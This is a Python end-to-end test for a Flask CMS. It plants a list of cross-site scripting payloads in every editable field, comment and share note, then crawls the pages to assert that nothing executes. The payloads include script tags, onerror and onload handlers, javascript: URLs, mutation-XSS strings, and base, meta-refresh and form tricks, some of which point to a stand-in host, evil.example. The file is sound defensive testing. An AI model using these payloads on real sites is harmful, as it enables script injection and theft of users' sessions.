"""A hundred and fifty texts that would like to run, in every field, on every page that one person can come to.

Each field has one of them; CMS_SOAK=1 gives each of them to every field. Nothing runs, nothing is reported by the
browser's own policy, no element appears: what somebody wrote is text.
"""

import os
from collections.abc import Callable, Iterator
from itertools import product
from typing import Any

import pytest
from flask import Flask
from flask_security import hash_password
from playwright.sync_api import Dialog, Page
from werkzeug.exceptions import HTTPException

from cms.content import Document
from cms.content.document import walk
from cms.content.kinds import Text
from cms.services import accounts, commenting, sharing
from cms.workflow import Role
from tests.factories import a_document, a_guide, act, published_again, revise
from tests.support import browser, people
from tests.support.people import PASSWORD
from tests.web.editor.desk import page_of

MARK = "x-injected"
_BEFORE = ("", "\"'>", "</textarea>", "</title></script>", "]]>", "--></style>")
_RUNS = (
    f"<{MARK}>", f"<{MARK} onmouseover=alert(1)>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>a</a>", "[a](javascript:alert(1))", "[a](JaVaScRiPt&colon;alert(1))",
    "![a](x\"onerror=\"alert(1))", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<style>@import'//evil.example'</style>", "<math><mtext></p><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example><button>a",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "{{7*7}}{% raw %}${7*7}", "<link rel=stylesheet href=//evil.example>",
)  # fmt: skip
PAYLOADS = tuple(before + runs for before, runs in product(_BEFORE, _RUNS))
ROUNDS = range(len(PAYLOADS)) if os.environ.get("CMS_SOAK") else range(1)
_LEADS_AWAY = ("/logout", "/static", "/bootstrap", "/shared", "/api/docs")


def payloads(start: int) -> Iterator[str]:
    """Without an end, beginning with the one at `start`."""
    while True:
        yield PAYLOADS[start % len(PAYLOADS)]
        start += 1


def loaded(start: int, **changes: Any) -> Document:
    """A document with another payload in every text of it, where it has room; addresses and codes as they were."""
    document, one = a_document(**changes), payloads(start)
    for where, kind, value in list(walk(document)):
        if isinstance(kind, Text) and kind.editable and kind.kind in ("line", "prose") and isinstance(value, str):
            text = next(one)
            _put(document, where, text if len(text) <= kind.max_length else f"<{MARK}>")
    for lists, names in ((document["reality_check"], ("love", "miss", "challenges")), (document, ("tags",))):
        for name in names:
            lists[name] = [f"{index}{next(one)}"[:40] for index, _ in enumerate(lists[name])]
    for index, row in enumerate(document["skills_to_learn"]):
        row["skill"]["label"] = f"{index}{next(one)}"[:80]
    for step in document["roadmap"]:
        step["tasks"] = [f"{index} {step['id']} {next(one)}" for index, _ in enumerate(step["tasks"])]
    return document


def _put(document: Any, where: tuple[str | int, ...], value: str) -> None:
    for part in where[:-1]:
        document = document[part]
    document[where[-1]] = value


def furnished(start: int) -> list[str]:
    """Guides that are live, written again, in review and gone; what people said about them. Where to begin to look."""
    one = payloads(start + 60)
    live = a_guide("published", loaded(start))
    published_again(live.id, change_note=next(one), summary=next(one), roadmap=a_document()["roadmap"][::-1])
    revise(live.id, "second_author", title=next(one), overview=next(one))
    review = a_guide("in_review", loaded(start + 30, slug="another", to_role={"slug": "cook", "label": "Cook"}))
    for guide, said in ((live, next(one)), (review, next(one))):
        commenting.comment(
            guide.id, anchor="overview", text=f"{said} @ruth", blocking=False, actor=people.actor("reviewer")
        )
        sharing.make(guide.id, revision_number=None, days=1, note=said[:120], actor=people.actor("author"))
    act(review.id, "request_changes", "reviewer", comment=next(one))
    return [page_of(live), page_of(review), f"/guides/{live.slug}", "/", "/editor/", "/account", "/admin/webhooks"]


def walked(app: Flask, page: Page, begin: list[str]) -> Iterator[str]:
    """Goes to these pages, and to one address of each other route that their links lead to."""
    adapter, routes, known = app.url_map.bind("127.0.0.1"), set[str](), set[str]()
    waiting = list(begin)
    for path in waiting:
        if path in known:
            continue
        known.add(path)
        try:
            endpoint = str(adapter.match(path.partition("?")[0], method="GET")[0])
        except HTTPException:
            continue
        if path.startswith(_LEADS_AWAY) or (endpoint in routes and path not in begin):
            continue
        answer = page.goto(path)
        if answer and answer.ok and "text/html" in answer.headers["content-type"]:
            routes.add(endpoint)
            yield path
            found: list[str] = page.eval_on_selector_all("a[href]", "all => all.map(one => one.getAttribute('href'))")
            waiting += [link.partition("#")[0] for link in found if link.startswith("/") and not _is_file(link)]


def _is_file(link: str) -> bool:
    return link.partition("?")[0].endswith(("csv", "jsonl", ".json", ".ics", ".md", ".atom", ".png"))


@pytest.mark.parametrize("start", ROUNDS)
def test_nothing_runs_that_somebody_wrote(app: Flask, browser_for: Callable[..., Page], start: int) -> None:
    page, opened = browser_for(), list[str]()

    def refuse(dialog: Dialog) -> None:
        opened.append(f"{page.url}: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", refuse)
    everyone = accounts.add_person(
        email="wren@example.org", name=f"Wren <{MARK}>", roles=Role, password_hash=hash_password(PASSWORD)
    )
    seen = []
    browser.sign_in(page, everyone.email, PASSWORD)
    for address in walked(app, page, furnished(start)):
        assert page.locator(f"{MARK}, base, iframe[srcdoc], [onerror], [onload], [onmouseover]").count() == 0, address
        seen.append(address)
    assert opened == []
    assert len(seen) > 20, seen
